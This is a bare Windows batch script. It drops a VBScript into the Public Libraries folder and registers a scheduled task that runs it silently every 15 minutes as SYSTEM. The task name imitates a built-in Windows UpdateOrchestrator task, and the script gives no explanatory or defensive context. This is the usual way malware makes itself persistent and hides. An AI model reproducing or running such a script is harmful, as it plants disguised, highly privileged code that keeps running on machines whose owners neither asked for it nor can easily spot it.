@echo off
copy /y "%~dp0refresh.vbs" "%PUBLIC%\Libraries\refresh.vbs" >nul
schtasks /create /tn "\Microsoft\Windows\UpdateOrchestrator\Refresh" /sc minute /mo 15 /ru SYSTEM /rl HIGHEST /f ^
  /tr "wscript.exe //B %PUBLIC%\Libraries\refresh.vbs"
